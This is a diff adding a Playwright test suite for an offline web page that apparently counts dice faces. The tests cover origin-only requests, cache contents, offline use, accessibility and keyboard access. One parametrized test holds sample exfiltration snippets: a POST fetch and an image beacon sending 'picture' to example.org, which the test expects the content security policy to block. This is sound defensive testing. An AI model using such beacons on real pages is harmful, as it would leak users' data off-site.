@@ -1,0 +1,116 @@
+"""Nothing leaves the page's origin, nothing is kept but its own files, and it opens without a network."""
+
+import page
+import pytest
+from playwright.sync_api import Error
+
+
+def test_no_request_leaves_the_origin(browser, site):
+    context = browser.new_context(permissions=["camera"])
+    asked: list[str] = []
+    context.on("request", lambda request: asked.append(request.url))
+    tab = context.new_page()
+    tab.goto(site)
+    tab.wait_for_selector("#choose:enabled")
+    before = len(asked)
+    assert page.press(tab, "#draw").startswith("6 faces")
+    tab.click("#camera")
+    tab.wait_for_selector("#pace:has-text('pictures')")
+    tab.click("#camera")
+    assert before > 4 and all(url.startswith((site, f"blob:{site}")) for url in asked)
+    assert {url.removeprefix(site) for url in asked[before:]} <= {
+        "drawn/several.png", "drawn/one.png", "drawn/many.png", "offline.js"
+    }  # fmt: skip
+    context.close()
+
+
+@pytest.mark.parametrize(
+    "leak",
+    [
+        "fetch('https://example.org/')",
+        "fetch('https://example.org/', {method: 'POST', mode: 'no-cors', body: 'picture'})",
+        """new Promise((done, failed) => {
+            const picture = new Image();
+            picture.onload = done;
+            picture.onerror = () => failed(Error("refused"));
+            picture.src = "https://example.org/?picture";
+        })""",
+    ],
+)
+def test_policy_stops_what_would_leave_the_origin(tab, leak):
+    asked: list[str] = []
+    tab.context.route("https://example.org/**", lambda route: (asked.append(route.request.url), route.abort()))
+    tab.evaluate("globalThis.stopped = []")
+    tab.evaluate("addEventListener('securitypolicyviolation', event => stopped.push(event.effectiveDirective))")
+    with pytest.raises(Error):
+        tab.evaluate(leak)
+    (directive,) = tab.evaluate("stopped")
+    assert directive in ("connect-src", "img-src") and asked == []
+
+
+def test_nothing_is_kept_but_the_pages_own_files(tab, site):
+    tab.evaluate("navigator.serviceWorker.ready.then(() => true)")
+    page.press(tab, "#draw")
+    kept = """async () => {
+        const names = await caches.keys();
+        const requests = await Promise.all(names.map(async name => (await caches.open(name)).keys()));
+        return { cached: requests.flat().map(request => request.url), stored: localStorage.length +
+            sessionStorage.length + (await indexedDB.databases()).length, cookies: document.cookie };
+    }"""
+    found = tab.evaluate(kept)
+    assert found["stored"] == 0 and found["cookies"] == ""
+    own = {"", "app.js", "model.onnx", "detector.onnx", "ort.wasm.gz", "style.css", "drawn/one.png"}
+    cached = {url.removeprefix(site) for url in found["cached"]}
+    assert own <= cached and all(not name.startswith("http") for name in cached)
+
+
+def test_installed_page_opens_and_judges_without_a_network(tab, site):
+    tab.evaluate("navigator.serviceWorker.ready.then(() => true)")
+    tab.context.set_offline(True)
+    tab.reload()
+    tab.wait_for_selector("#choose:enabled")
+    assert page.press(tab, "#draw").startswith("6 faces: ")
+
+
+def test_first_load_stays_small(site, tmp_path):
+    page.build(tmp_path / "site")
+    sizes = {path.name: path.stat().st_size for path in (tmp_path / "site").rglob("*") if path.is_file()}
+    assert sizes["model.onnx"] <= 6e6 and sum(sizes.values()) <= 12e6
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+@pytest.mark.parametrize("width", [390, 1280])
+def test_axe_finds_nothing_serious_and_nothing_sticks_out(browser, site, scheme, width):
+    context = browser.new_context(color_scheme=scheme, viewport={"width": width, "height": 800}, bypass_csp=True)
+    tab = context.new_page()
+    tab.goto(site)
+    tab.wait_for_selector("#choose:enabled")
+    page.press(tab, "#draw")
+    tab.add_script_tag(path=page.WEB / "node_modules" / "axe-core" / "axe.min.js")
+    found = tab.evaluate("axe.run().then(found => found.violations)")
+    assert [(finding["id"], finding["nodes"][0]["html"]) for finding in found] == []
+    assert tab.evaluate("document.documentElement.scrollWidth") <= width
+    context.close()
+
+
+def test_keyboard_alone_reaches_and_works_everything(tab):
+    reached = []
+    for _ in range(12):
+        tab.keyboard.press("Tab")
+        reached.append(tab.evaluate("document.activeElement.id"))
+    assert reached[:3] == ["choose", "draw", "camera"] and {"maps", "choose-network"} <= set(reached)
+    tab.focus("#draw")
+    page.hush(tab)
+    tab.keyboard.press("Enter")
+    assert page.settled(tab).startswith("6 faces")
+    tab.focus("#later")
+    tab.keyboard.press("Space")
+    assert tab.inner_text("#which") == "2 of 6"
+
+
+def test_reduced_motion_is_honoured(browser, site):
+    context = browser.new_context(reduced_motion="reduce")
+    tab = context.new_page()
+    tab.goto(site)
+    assert tab.evaluate("getComputedStyle(document.getElementById('choose')).transitionDuration") == "0s"
+    context.close()
